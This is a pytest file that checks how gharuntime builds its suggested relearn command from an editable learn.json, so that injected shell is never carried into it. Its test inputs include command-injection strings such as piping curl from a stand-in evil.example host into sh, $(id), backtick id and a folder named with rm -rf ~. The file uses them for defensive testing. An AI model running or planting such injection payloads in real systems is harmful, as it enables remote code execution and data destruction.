"""gharuntime.predict.learned: what a learned folder's learn.json may and may not do."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest

from gharuntime.predict.learned import LearnedError, load_learned, relearn_command


@pytest.mark.parametrize(
    "repos",
    [
        ["a/b; curl https://evil.example/x | sh"],
        ["$(touch pwned)"],
        ["a/b", "`id`"],
        [{"x": 1}],
        [f"o/{'n' * 200}"],
    ],
)
def test_the_learn_again_command_never_carries_shell_from_learn_json(repos: object) -> None:
    """learn.json is a file anyone can edit; the command predict suggests to paste must stay
    `gharuntime learn REPOS --token-env GITHUB_TOKEN --out FOLDER`, word for word."""
    command = relearn_command({"repos": repos}, Path("models/mine"))
    assert shlex.split(command) == [
        "gharuntime", "learn", "OWNER/NAME", "--token-env", "GITHUB_TOKEN", "--out", "models/mine"
    ]  # fmt: skip


def test_real_names_are_kept_and_an_odd_folder_stays_one_argument() -> None:
    folder = Path("my models; rm -rf ~")
    command = relearn_command({"repos": ["octo-org/api", "octo-org/web.site"]}, folder)
    assert shlex.split(command) == [
        "gharuntime", "learn", "octo-org/api", "octo-org/web.site", "--token-env",
        "GITHUB_TOKEN", "--out", str(folder),
    ]  # fmt: skip


@pytest.mark.parametrize("origin", ["data; curl https://evil.example/x | sh", "$(id)", "-rf"])
def test_a_folder_learnt_from_a_dataset_is_relearnt_from_it_as_one_argument(origin: str) -> None:
    """`from_dataset.path` in learn.json is as editable as `repos`: it stays one word, never
    shell, and a value that looks like an option stays the value of --from-dataset."""
    command = relearn_command({"from_dataset": {"path": origin}}, Path("my models"))
    assert shlex.split(command) == [
        "gharuntime", "learn", "--from-dataset", origin, "--out", "my models"
    ]  # fmt: skip


def test_a_tampered_learn_json_is_refused_with_a_safe_command(tmp_path: Path) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    doc = {"format": "gharuntime-learned/0", "repos": ["a/b; curl https://e.example | sh"]}
    (folder / "learn.json").write_text(json.dumps(doc))
    with pytest.raises(LearnedError) as caught:
        load_learned(folder)
    fix = caught.value.fix or ""
    command = fix.split(": ", 1)[1]
    assert "curl" not in fix
    assert shlex.split(command)[:3] == ["gharuntime", "learn", "OWNER/NAME"]
